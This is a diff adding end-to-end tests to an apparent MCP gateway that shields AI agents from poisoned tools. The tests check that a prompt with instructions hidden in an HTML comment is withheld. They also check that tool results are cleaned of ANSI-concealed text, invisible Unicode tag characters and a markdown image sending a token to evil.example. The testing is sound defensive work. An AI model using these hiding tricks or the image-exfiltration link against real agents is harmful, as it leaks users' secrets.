@@ -5,7 +5,7 @@
 import assert from "node:assert/strict";
 import { runAwmg } from "../support/awmg.ts";
 import { eventually } from "../support/deadline.ts";
-import { RUGPULL, startGateway, text } from "../support/gateway.ts";
+import { EVERYTHING, RUGPULL, startGateway, text } from "../support/gateway.ts";
 import { modernClient } from "../support/modern.ts";
 import { tempFile } from "../support/temp.ts";
 
@@ -148,6 +148,12 @@ Deno.test(
           rug.callTool({ name: "helper", arguments: {} }),
           /withheld/,
         );
+        assert.deepEqual((await rug.listPrompts()).prompts.map((prompt: Named) => prompt.name), ["review"]);
+        await assert.rejects(
+          rug.getPrompt({ name: "hidden" }),
+          /Prompt 'hidden' is withheld: hidden instructions: HTML comment in description/,
+        );
+        assert.equal((await rug.getPrompt({ name: "review" })).messages.length, 1);
         assert.ok((await warned.listTools()).tools.some((tool: Named) => tool.name === "helper"));
         assert.equal(text(await warned.callTool({ name: "helper", arguments: {} })), "helped");
         await Promise.all([rug.close(), warned.close()]);
@@ -183,3 +189,30 @@ Deno.test(
     assert.match(strict.stderr, /--strict-pins: helper \(hidden instructions: tag characters/);
   },
 );
+
+Deno.test("sanitizeResults cleans what a result hides and counts it in gateway.md", e2e, async () => {
+  const logDir = `/tmp/gh-aw/mcp-logs/test-${crypto.randomUUID()}`;
+  const gateway = await startGateway({
+    toml: EVERYTHING() + '[gateway]\nsanitize_results = true\nimage_hosts = ["github.com"]\n',
+    args: ["--log-dir", logDir],
+  });
+  try {
+    const client = await gateway.client("everything");
+    const hidden = [..."LEAK"].map((c) => String.fromCodePoint(0xE0000 + c.charCodeAt(0))).join("");
+    const message =
+      `\x1b[8msecret\x1b[0m ${hidden}![p](https://evil.example/?d=token) ![l](https://github.com/l.png)`;
+    const result = await client.callTool({ name: "echo", arguments: { message } });
+    assert.equal(
+      text(result),
+      "Echo: secret [p](https://evil.example/?d=token) ![l](https://github.com/l.png)",
+    );
+    await client.close();
+  } finally {
+    await gateway.stop();
+  }
+  const summary = await Deno.readTextFile(`${logDir}/gateway.md`);
+  assert.match(
+    summary,
+    /\*\*Sanitized results\*\*: 1 \(2 ANSI escapes and 4 tag characters removed, 1 images/,
+  );
+});
